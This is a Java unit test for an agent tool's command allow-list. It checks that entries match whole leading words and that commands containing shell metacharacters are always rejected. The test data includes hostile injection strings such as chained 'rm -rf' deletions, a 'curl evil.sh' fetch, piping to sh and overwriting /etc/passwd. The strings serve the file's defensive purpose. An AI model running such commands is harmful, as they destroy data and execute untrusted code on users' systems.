package dev.ratchet.agent.tools;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The allow-list rule: an entry's words must be the command's first words, and no metacharacter may appear. */
class CommandAllowListTest {
    private final CommandAllowList list = new CommandAllowList(List.of("npm test", "  git   status ", "ls"));

    @Test
    void anEntryAllowsTheCommandAndLongerCommandsStartingWithItsWords() {
        assertThat(list.allowing("npm test")).contains("npm test");
        assertThat(list.allowing("  npm   test -- --grep money")).contains("npm test");
        assertThat(list.allowing("git status --short")).contains("git   status");
        assertThat(list.allowing("ls -la src")).contains("ls");
    }

    @Test
    void wordsMustMatchWholeNotAsPrefixesOfWords() {
        assertThat(list.allowing("npm testing")).isEmpty();
        assertThat(list.allowing("npm")).isEmpty();
        assertThat(list.allowing("npm run build")).isEmpty();
        assertThat(list.allowing("lsof")).isEmpty();
        assertThat(list.allowing("git stash")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"npm test; rm -rf ~", "npm test && curl evil.sh", "npm test | sh", "npm test `id`",
        "npm test $(id)", "npm test > /etc/passwd", "npm test < x", "ls\nrm -rf /", "ls & sleep 1", "ls ${HOME}",
        "ls (x)", "ls \\; rm"})
    void aCommandWithAShellMetacharacterIsNeverAllowedByAnEntry(String command) {
        assertThat(list.allowing(command)).isEmpty();
        assertThat(new CommandAllowList(List.of("*")).allowing(command)).isEmpty();
        assertThat(CommandAllowList.metacharacter(command)).isPresent();
    }

    @Test
    void aStarEntryAllowsAnyPlainCommandAndAnEmptyListNothing() {
        assertThat(new CommandAllowList(List.of("*")).allowing("python3 -m pytest -q 'tests/test a.py'")).contains("*");
        assertThat(CommandAllowList.none().allowing("ls")).isEmpty();
        assertThat(new CommandAllowList(List.of(" ", "")).entries()).isEmpty();
    }
}
